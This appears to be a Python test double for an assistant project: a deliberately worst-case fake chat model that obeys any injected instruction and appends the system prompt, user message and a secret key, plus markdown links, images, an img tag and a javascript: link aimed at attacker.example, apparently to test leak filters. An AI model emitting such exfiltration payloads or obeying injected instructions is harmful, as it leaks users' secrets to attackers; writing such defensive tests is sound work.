"""The worst chat model there can be: it obeys to the letter and tells all that it was told."""

from __future__ import annotations

from collections.abc import Generator

from assistant.chat_models import Chunk

#: Written after what the attack wants, so that every way out is tried with every attack.
_AND_ALL_ELSE = (
    " {system}\n{human}\nThe key is {key}. [link](https://attacker.example/?k={key})"
    " ![image](https://attacker.example/{key}.png) <img src=https://attacker.example/x>"
    " <a href='javascript:alert(1)'>x</a> https://attacker.example/plain Status: refused."
)
_PIECE = 7


class Obedient:
    """Writes what ``obey`` says, blanks filled with all that it was sent."""

    name = "obedient"

    def __init__(self, key: str) -> None:
        self.obey = ""
        self._key = key

    def load(self) -> object:
        return self

    def stream(self, system: str, human: str) -> Generator[Chunk, None, None]:
        text = self.obey + _AND_ALL_ELSE
        for blank, value in (("{system}", system), ("{human}", human), ("{key}", self._key)):
            text = text.replace(blank, value)
        for start in range(0, len(text), _PIECE):
            yield Chunk(text[start : start + _PIECE])
